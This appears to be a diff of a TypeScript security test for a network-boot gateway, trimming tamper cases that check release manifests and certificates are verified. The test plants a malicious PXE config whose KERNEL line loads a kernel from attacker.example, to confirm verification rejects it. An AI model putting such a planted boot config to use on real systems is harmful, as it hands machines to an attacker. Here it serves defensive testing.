@@ -139,7 +139,7 @@ describe('gateway hardening', () => {
       assert.deepEqual(await curl(tftpUrl(gw, 'version.info')), small);
       await gw.stop();
 
-      // Each way of editing the file, and what verification says of it.
+      // An attack end to end, and a broken certificate; gateway/release.test.ts covers every other way of editing the file.
       const evil = Buffer.from('DEFAULT evil\nLABEL evil\n KERNEL http://attacker.example/vmlinuz\n');
       mkdirSync(join(cache, 'chunks', sha256hex(evil).slice(0, 2)), { recursive: true });
       writeFileSync(join(cache, 'chunks', sha256hex(evil).slice(0, 2), sha256hex(evil)), evil);
@@ -159,20 +159,9 @@ describe('gateway hardening', () => {
         ['config pointed at a planted chunk', editInside<{ files: Entry[] }>('manifest', (m) => {
           Object.assign(m.files.find((x) => x.path === 'pxelinux.cfg/default')!, { size: evil.length, sha256: sha256hex(evil), chunks: [sha256hex(evil)] });
         }), /manifest of release \d+ does not match its certified hash/],
-        ['two entries swapped', editInside<{ files: Entry[] }>('manifest', (m) => {
-          const [a, b] = [m.files.find((x) => x.path === 'linux')!, m.files.find((x) => x.path === 'version.info')!];
-          [a.path, b.path] = [b.path, a.path];
-        }), /manifest of release \d+ does not match its certified hash/],
-        ['index edited', editInside<{ releases: { label: string }[] }>('index', (index) => {
-          index.releases[0].label = 'edited';
-        }), /the index does not match the canister's certified data/],
         ['certificate cut short', edit((doc) => {
           doc.certificate = doc.certificate.slice(0, 200);
         }), /certificate verification failed/],
-        ['another canister', edit((doc) => {
-          doc.canister = 'aaaaa-aa';
-        }), /saved for canister aaaaa-aa/],
-        ['not JSON', '{"format": "icboot-saved-release/1", ', /not a saved release/],
       ];
       for (const [name, text, why] of cases) {
         writeFileSync(saved, text);
